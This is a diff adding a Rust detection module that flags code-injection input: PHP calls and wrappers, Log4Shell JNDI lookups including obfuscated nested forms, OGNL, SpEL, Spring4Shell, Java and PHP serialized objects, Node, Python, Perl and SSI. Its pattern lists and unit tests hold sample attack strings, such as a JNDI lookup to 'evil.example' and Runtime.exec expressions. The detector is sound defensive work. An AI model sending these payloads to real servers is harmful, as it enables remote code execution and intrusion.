@@ -1,6 +1,711 @@
-//! Code and expression injection: PHP, Java (JNDI lookups, OGNL/EL, deserialization gadgets).
+//! Code and expression injection: PHP (open tags, superglobals, dangerous calls, variable
+//! functions, serialized objects, stream wrappers), Java (Log4Shell `${jndi:…}` with nested
+//! lookups, OGNL, EL/SpEL, dangerous classes and Commons-Collections gadgets, serialized
+//! objects, Spring4Shell `class.module.classLoader`), Node.js (`child_process`, prototype
+//! pollution), Perl `@{[ ]}`, Python dunder access and server-side includes.
+//!
+//! PHP stream wrappers (`php://filter`, `phar://`, `zip://`, `data://`, `expect://`) are
+//! reported here, as code injection; `file://` is reported by the traversal checker.
 
-use super::Candidate;
-use crate::detect::finding::Finding;
+use super::{
+    text::{around, find_ci, find_ci_from, is_ident, starts_with_ci, word_start},
+    Candidate,
+};
+use crate::detect::finding::{Finding, Kind, Severity};
 
-pub fn check(_c: &Candidate<'_>, _out: &mut Vec<Finding>) {}
+/// Calls that run code or commands, read or write files or decode hidden payloads; their
+/// names are not English words, so a blank or comment before `(` is allowed.
+const PHP_CALLS: &[&[u8]] = &[
+    b"shell_exec",
+    b"passthru",
+    b"proc_open",
+    b"pcntl_exec",
+    b"assert_options",
+    b"create_function",
+    b"call_user_func",
+    b"call_user_func_array",
+    b"preg_replace",
+    b"base64_decode",
+    b"gzinflate",
+    b"gzuncompress",
+    b"gzdecode",
+    b"str_rot13",
+    b"bzdecompress",
+    b"zlib_decode",
+    b"include_once",
+    b"require_once",
+    b"file_get_contents",
+    b"file_put_contents",
+    b"fsockopen",
+    b"pfsockopen",
+    b"phpinfo",
+    b"unserialize",
+    b"curl_init",
+    b"curl_exec",
+    b"move_uploaded_file",
+    b"highlight_file",
+    b"show_source",
+    b"php_uname",
+    b"getenv",
+    b"putenv",
+    b"ini_set",
+    b"dl",
+    b"array_map",
+    b"usort",
+    b"register_shutdown_function",
+    b"fwrite",
+    b"fopen",
+    b"readfile",
+    b"symlink",
+    b"chmod",
+    b"posix_getpwuid",
+    b"escapeshellcmd",
+    b"escapeshellarg",
+    b"popen",
+    b"mb_ereg_replace",
+];
+
+/// Dangerous calls whose names are also words ("system (beta)"): `(` must follow directly.
+const PHP_WORD_CALLS: &[&[u8]] = &[
+    b"system", b"exec", b"eval", b"assert", b"include", b"require",
+];
+
+/// Java packages whose classes payloads reach for (exceptions and errors excluded: stack
+/// traces name them legitimately).
+const JAVA_PACKAGES: &[&[u8]] = &[
+    b"java.lang.",
+    b"java.io.",
+    b"java.net.",
+    b"java.nio.",
+    b"java.beans.",
+    b"java.rmi.",
+    b"javax.script.",
+    b"javax.naming.",
+    b"javax.management.",
+    b"sun.misc.",
+    b"com.sun.",
+    b"org.apache.commons.collections",
+    b"org.codehaus.groovy.",
+    b"com.opensymphony.xwork2",
+    b"org.omg.",
+    b"bsh.",
+    b"org.apache.xalan",
+    b"org.mozilla.javascript",
+];
+
+/// Commons-Collections / Groovy gadget class names.
+const GADGETS: &[&[u8]] = &[
+    b"invokertransformer",
+    b"chainedtransformer",
+    b"constanttransformer",
+    b"instantiatetransformer",
+    b"instantiatefactory",
+    b"clonetransformer",
+    b"forclosure",
+    b"whileclosure",
+    b"prototypeclonefactory",
+    b"prototypeserializationfactory",
+    b"templatesimpl",
+    b"methodclosure",
+    b"convertedclosure",
+    b"lazymap",
+    b"transformedmap",
+];
+
+pub fn check(c: &Candidate<'_>, out: &mut Vec<Finding>) {
+    let value = c.decoded;
+    let b = value.as_bytes();
+    if b.len() < 3 {
+        return;
+    }
+    let found = java(b).or_else(|| other(b)).or_else(|| php(b));
+    if let Some((rule, severity, p)) = found {
+        out.push(Finding::new(
+            Kind::CodeInjection,
+            rule,
+            severity,
+            c.input.location(),
+            around(value, p),
+        ));
+    }
+}
+
+type Hit = (&'static str, Severity, usize);
+
+fn first_of(b: &[u8], needles: &[&[u8]]) -> Option<usize> {
+    needles.iter().filter_map(|n| find_ci(b, n)).min()
+}
+
+fn java(b: &[u8]) -> Option<Hit> {
+    let crit = Severity::Critical;
+    if b.contains(&b'$') && b.contains(&b'{') {
+        if let Some(p) = jndi(b) {
+            return Some(("code.jndi", crit, p));
+        }
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"#_memberaccess",
+            b"#context[",
+            b"%{(#",
+            b"@ognl.",
+            b"ognlcontext",
+            b"(#dm=",
+            b"default_member_access",
+            b"#application[",
+            b"#request[",
+            b"@java.lang.",
+            b"xwork.methodaccessor",
+        ],
+    ) {
+        return Some(("code.ognl", crit, p));
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"t(java.",
+            b"t (java.",
+            b".getruntime()",
+            b"getclass().forname(",
+            b"class.forname(",
+            b"processbuilder",
+            b"scriptenginemanager",
+            b".getclassloader()",
+        ],
+    ) {
+        return Some(("code.java_el", crit, p));
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"class.module.classloader",
+            b"class.classloader",
+            b".classloader.",
+        ],
+    ) {
+        return Some(("code.spring_classloader", crit, p));
+    }
+    if let Some(p) = deserialization(b) {
+        return Some(("code.java_deserialization", crit, p));
+    }
+    if let Some(p) = java_class(b) {
+        return Some(("code.java_class", crit, p));
+    }
+    if let Some(p) = first_of(b, GADGETS) {
+        if first_of(b, &[b"runtime", b"java.", b"processbuilder", b"commons"]).is_some() {
+            return Some(("code.java_gadget", crit, p));
+        }
+    }
+    None
+}
+
+/// `${jndi:ldap://…}` after resolving Log4j's nested lookups: `${lower:j}`, `${upper:N}`,
+/// `${::-d}`, `${env:X:-i}`, `${date:'j'}`.
+fn jndi(b: &[u8]) -> Option<usize> {
+    let mut from = 0;
+    while let Some(p) = find_ci_from(b, b"${", from) {
+        from = p + 2;
+        let mut budget = 4096;
+        let (resolved, _) = resolve(&b[p + 2..], 0, &mut budget);
+        let r = resolved.to_ascii_lowercase();
+        if r.starts_with(b"jndi:") {
+            let proto = &r[5..];
+            for scheme in [
+                "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http",
+            ] {
+                if proto.starts_with(scheme.as_bytes()) {
+                    return Some(p);
+                }
+            }
+        }
+    }
+    None
+}
+
+/// Resolves a lookup body up to its closing `}`; returns the text and bytes used.
+fn resolve(b: &[u8], depth: usize, budget: &mut usize) -> (Vec<u8>, usize) {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() && *budget > 0 {
+        *budget -= 1;
+        if b[i] == b'}' {
+            return (lookup_value(&out), i + 1);
+        }
+        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') && depth < 8 {
+            let (inner, used) = resolve(&b[i + 2..], depth + 1, budget);
+            out.extend_from_slice(&inner);
+            i += 2 + used;
+            continue;
+        }
+        out.push(b[i]);
+        i += 1;
+    }
+    // Unclosed: the text so far (the outer lookup).
+    (out, i)
+}
+
+/// What a nested lookup evaluates to: `lower:x` → `x`, `a:-x` → `x`, `date:'x'` → `x`.
+fn lookup_value(body: &[u8]) -> Vec<u8> {
+    if let Some(p) = body.windows(2).position(|w| w == b":-") {
+        return body[p + 2..].to_vec();
+    }
+    for prefix in [&b"lower:"[..], b"upper:", b"date:"] {
+        if starts_with_ci(body, prefix) {
+            let v = &body[prefix.len()..];
+            return v.iter().copied().filter(|&x| x != b'\'').collect();
+        }
+    }
+    // The outermost lookup keeps its prefix (`jndi:…`).
+    body.to_vec()
+}
+
+/// Java serialized objects: `aced0005` in hex or base64 at each of the three alignments.
+fn deserialization(b: &[u8]) -> Option<usize> {
+    if let Some(p) = find_ci(b, b"aced0005") {
+        return Some(p);
+    }
+    let find = |n: &[u8]| b.windows(n.len()).position(|w| w == n);
+    if let Some(p) = find(b"rO0AB").or_else(|| find(b"s7QAF")) {
+        return Some(p);
+    }
+    let p = find(b"ztAA")?;
+    (p > 0 && matches!(b[p - 1], b'K' | b'a' | b'q' | b'6')).then_some(p - 1)
+}
+
+fn java_class(b: &[u8]) -> Option<usize> {
+    for pkg in JAVA_PACKAGES {
+        let mut from = 0;
+        while let Some(p) = find_ci_from(b, pkg, from) {
+            from = p + 1;
+            if p > 0 && (is_ident(b[p - 1]) || b[p - 1] == b'.') {
+                continue;
+            }
+            let end = b[p..]
+                .iter()
+                .position(|&x| !(is_ident(x) || x == b'.' || x == b'$'))
+                .map_or(b.len(), |e| p + e);
+            let name = b[p..end].to_ascii_lowercase();
+            if name.ends_with(b"exception") || name.ends_with(b"error") {
+                continue;
+            }
+            return Some(p);
+        }
+    }
+    None
+}
+
+fn php(b: &[u8]) -> Option<Hit> {
+    let crit = Severity::Critical;
+    if let Some(p) = php_tag(b) {
+        return Some(("code.php", crit, p));
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"php://",
+            b"phar://",
+            b"zip://",
+            b"expect://",
+            b"glob://",
+            b"data://",
+            b"compress.zlib://",
+            b"compress.bzip2://",
+            b"ssh2.shell://",
+            b"ssh2.exec://",
+            b"ssh2.tunnel://",
+            b"ssh2.sftp://",
+            b"ssh2.scp://",
+            b"rar://",
+            b"ogg://",
+            b"data:text/plain",
+            b"data:text/php",
+            b"data:application/x-httpd-php",
+        ],
+    ) {
+        return Some(("code.php_wrapper", crit, p));
+    }
+    if b.contains(&b'$') {
+        for g in [
+            &b"$_get"[..],
+            b"$_post",
+            b"$_request",
+            b"$_server",
+            b"$_cookie",
+            b"$_files",
+            b"$_env",
+            b"$_session",
+            b"$globals",
+        ] {
+            if let Some(p) = find_ci(b, g) {
+                if b.get(p + g.len()).is_none_or(|x| !is_ident(*x)) {
+                    return Some(("code.php", crit, p));
+                }
+            }
+        }
+        if let Some(p) = variable_call(b) {
+            return Some(("code.php", crit, p));
+        }
+    }
+    if b.contains(&b'(') {
+        if let Some(p) = php_call(b) {
+            return Some(("code.php", crit, p));
+        }
+    }
+    if let Some(p) = serialized_object(b) {
+        return Some(("code.php_object", crit, p));
+    }
+    None
+}
+
+/// `<?php`, `<?=`, `<? …` (not `<?xml`), and BBCode-style `[php]` / `{php}` blocks.
+fn php_tag(b: &[u8]) -> Option<usize> {
+    let mut from = 0;
+    while let Some(p) = find_ci_from(b, b"<?", from) {
+        from = p + 2;
+        let rest = &b[p + 2..];
+        if starts_with_ci(rest, b"php") || rest.first() == Some(&b'=') {
+            return Some(p);
+        }
+        // `<? echo …`, `<? $x…`, `<? f(…`: short tags with PHP after them (not `<?xml`).
+        let t = rest.trim_ascii_start();
+        let ident = t.iter().take_while(|x| is_ident(**x)).count();
+        let keyword = [
+            &b"echo"[..],
+            b"print",
+            b"system",
+            b"eval",
+            b"include",
+            b"require",
+            b"exec",
+            b"passthru",
+            b"phpinfo",
+            b"if",
+            b"foreach",
+        ]
+        .iter()
+        .any(|k| t[..ident].eq_ignore_ascii_case(k));
+        if rest.first().is_some_and(u8::is_ascii_whitespace)
+            && (t.first() == Some(&b'$')
+                || keyword
+                || (ident > 0 && skip_space_comments(&t[ident..]).first() == Some(&b'(')))
+        {
+            return Some(p);
+        }
+    }
+    first_of(b, &[b"[php]", b"{php}", b"[/php]", b"{/php}"])
+}
+
+/// A dangerous function name followed by `(`.
+fn php_call(b: &[u8]) -> Option<usize> {
+    for name in PHP_CALLS.iter().chain(PHP_WORD_CALLS) {
+        let loose = PHP_CALLS.contains(name);
+        let mut from = 0;
+        while let Some(p) = find_ci_from(b, name, from) {
+            from = p + 1;
+            if !word_start(b, p) || (p > 0 && matches!(b[p - 1], b'.' | b'-' | b'>')) {
+                continue;
+            }
+            let after = &b[p + name.len()..];
+            let rest = if loose {
+                skip_space_comments(after)
+            } else {
+                after
+            };
+            // `putenv(3)`: a manual page reference.
+            let man_ref = rest.len() >= 3 && rest[1].is_ascii_digit() && rest[2] == b')';
+            if rest.first() == Some(&b'(') && !man_ref {
+                return Some(p);
+            }
+        }
+    }
+    None
+}
+
+fn skip_space_comments(mut b: &[u8]) -> &[u8] {
+    for _ in 0..8 {
+        let t = b.trim_ascii_start();
+        if let Some(r) = t.strip_prefix(b"/*") {
+            b = r
+                .windows(2)
+                .position(|w| w == b"*/")
+                .map_or(&[][..], |e| &r[e + 2..]);
+        } else if t.starts_with(b"//") || t.starts_with(b"#") {
+            b = t
+                .iter()
+                .position(|&x| x == b'\n')
+                .map_or(&[][..], |e| &t[e..]);
+        } else {
+            return t;
+        }
+    }
+    b
+}
+
+/// `$f(…)`, `$_[0](…)`, `${'a'.'b'}(…)`: calling a function held in a variable.
+fn variable_call(b: &[u8]) -> Option<usize> {
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'$' {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        let mut j = i + 1;
+        while b.get(j) == Some(&b'$') {
+            j += 1;
+        }
+        let ident = b[j..].iter().take_while(|x| is_ident(**x)).count();
+        let braced = b.get(j) == Some(&b'{');
+        if ident == 0 && !braced || (ident > 0 && b[j].is_ascii_digit()) {
+            i = j.max(i + 1);
+            continue;
+        }
+        j += ident;
+        if braced && b.get(j + 1) == Some(&b'}') {
+            i = j + 2;
+            continue;
+        }
+        // Subscripts and braces, bounded.
+        for _ in 0..4 {
+            let t = skip_space_comments(&b[j..]);
+            j = b.len() - t.len();
+            let (open, close) = match t.first() {
+                Some(b'[') => (b'[', b']'),
+                Some(b'{') => (b'{', b'}'),
+                _ => break,
+            };
+            let Some(e) = t.iter().take(64).position(|&x| x == close) else {
+                break;
+            };
+            // `$a[]()`, `${}()`: empty subscripts are no function reference.
+            if e == 1 {
+                break;
+            }
+            let _ = open;
+            j += e + 1;
+        }
+        if skip_space_comments(&b[j..]).first() == Some(&b'(') && j > start + 1 {
+            return Some(start);
+        }
+        i = j.max(i + 1);
+    }
+    None
+}
+
+/// `O:8:"stdClass":1:{…}`: a serialized PHP object (gadget-chain carrier).
+fn serialized_object(b: &[u8]) -> Option<usize> {
+    let mut from = 0;
+    while let Some(p) = find_ci_from(b, b"o:", from) {
+        from = p + 2;
+        if !word_start(b, p) {
+            continue;
+        }
+        let rest = &b[p + 2..];
+        let digits = rest.iter().take_while(|x| x.is_ascii_digit()).count();
+        if digits > 0 && rest[digits..].starts_with(b":\"") {
+            let tail = &rest[digits + 2..];
+            if tail.windows(2).take(256).any(|w| w == b":{") {
+                return Some(p);
+            }
+        }
+    }
+    None
+}
+
+fn other(b: &[u8]) -> Option<Hit> {
+    let crit = Severity::Critical;
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"child_process",
+            b"process.mainmodule",
+            b"process.binding(",
+            b"constructor._load(",
+            b"constructor.constructor(",
+            b"require('child",
+            b"require(\"child",
+        ],
+    ) {
+        return Some(("code.node", crit, p));
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"__proto__",
+            b"constructor.prototype",
+            b"constructor[prototype]",
+            b"[constructor][prototype]",
+        ],
+    ) {
+        return Some(("code.prototype_pollution", Severity::High, p));
+    }
+    if let Some(p) = first_of(b, &[b"@{["]) {
+        return Some(("code.perl", crit, p));
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"__import__(",
+            b"__builtins__",
+            b"__globals__",
+            b"__subclasses__(",
+            b"os.popen(",
+            b"os.system(",
+        ],
+    ) {
+        return Some(("code.python", crit, p));
+    }
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"process.spawn(",
+            b"kernel.exec",
+            b"io.popen(",
+            b"kernel.system",
+        ],
+    ) {
+        return Some(("code.ruby", crit, p));
+    }
+    if let Some(p) = first_of(b, &[b"<!--#exec", b"<!--#include"]) {
+        return Some(("code.ssi", crit, p));
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use std::borrow::Cow;
+
+    use super::*;
+    use crate::detect::{
+        inputs::{Input, Source},
+        normalize,
+    };
+
+    fn rule(value: &str) -> Option<&'static str> {
+        let input = Input {
+            source: Source::Form,
+            name: Cow::Borrowed("f"),
+            value: Cow::Borrowed(value),
+        };
+        let decoded = normalize::decode(value);
+        let c = Candidate {
+            input: &input,
+            decoded: &decoded,
+        };
+        let mut out = Vec::new();
+        check(&c, &mut out);
+        assert!(out.len() <= 1);
+        out.first().map(|f| {
+            assert_eq!(f.kind, Kind::CodeInjection);
+            assert_eq!(f.location, "form:f");
+            f.rule_id
+        })
+    }
+
+    #[test]
+    fn php() {
+        for v in [
+            "<?php system('id'); ?>",
+            "<?=`id`?>",
+            "<? echo 1; ?>",
+            "x=$_GET['cmd']",
+            "system('id')",
+            "eval($_POST[x])",
+            "base64_decode ('aWQ=')",
+            "shell_exec/*x*/('id')",
+            "$f('id')",
+            "${'a'.'b'}(1)",
+            "$_[0]($_[1])",
+            "[php]echo 1;[/php]",
+        ] {
+            assert_eq!(rule(v), Some("code.php"), "{v}");
+        }
+        assert_eq!(
+            rule("php://filter/convert.base64-encode/resource=index"),
+            Some("code.php_wrapper")
+        );
+        assert_eq!(rule("phar:///tmp/x.phar/a"), Some("code.php_wrapper"));
+        assert_eq!(
+            rule("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
+            Some("code.php_object")
+        );
+    }
+
+    #[test]
+    fn java() {
+        for (v, r) in [
+            ("${jndi:ldap://evil.example/a}", "code.jndi"),
+            ("${${lower:j}ndi:${lower:l}dap://x/a}", "code.jndi"),
+            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "code.jndi"),
+            (
+                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
+                "code.jndi",
+            ),
+            (
+                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+                "code.ognl",
+            ),
+            (
+                "${T(java.lang.Runtime).getRuntime().exec('id')}",
+                "code.java_el",
+            ),
+            (
+                "new java.lang.ProcessBuilder({'id'}).start()",
+                "code.java_el",
+            ),
+            ("java.lang.Runtime", "code.java_class"),
+            ("rO0ABXNyABFqYXZh", "code.java_deserialization"),
+            ("ACED00057372", "code.java_deserialization"),
+            (
+                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+                "code.spring_classloader",
+            ),
+        ] {
+            assert_eq!(rule(v), Some(r), "{v}");
+        }
+    }
+
+    #[test]
+    fn other_languages() {
+        assert_eq!(
+            rule("require('child_process').exec('id')"),
+            Some("code.node")
+        );
+        assert_eq!(
+            rule("{\"__proto__\":{\"admin\":true}}"),
+            Some("code.prototype_pollution")
+        );
+        assert_eq!(rule("@{[ system 'id' ]}"), Some("code.perl"));
+        assert_eq!(rule("__import__('os').popen"), Some("code.python"));
+        assert_eq!(rule("<!--#exec cmd=\"id\"-->"), Some("code.ssi"));
+    }
+
+    #[test]
+    fn benign() {
+        for v in [
+            "<?xml version=\"1.0\"?><a/>",
+            "the payment system (beta) is down",
+            "java.lang.NullPointerException at Foo.bar",
+            "Caused by: java.io.IOException: broken pipe",
+            "price: $5 (incl. tax)",
+            "100%",
+            "email me at a@b.com",
+            "{{user_name}}",
+            "${HOME}",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "https://example.com/webhook",
+            "I like Java and PHP",
+            "Tom & Jerry",
+            "1.2.3",
+            "execute(plan)",
+            "O: 8 items",
+            "<? should not trigger",
+            "$a[]()",
+            "such as putenv(3) or environ(7)",
+        ] {
+            assert_eq!(rule(v), None, "{v}");
+        }
+    }
+}
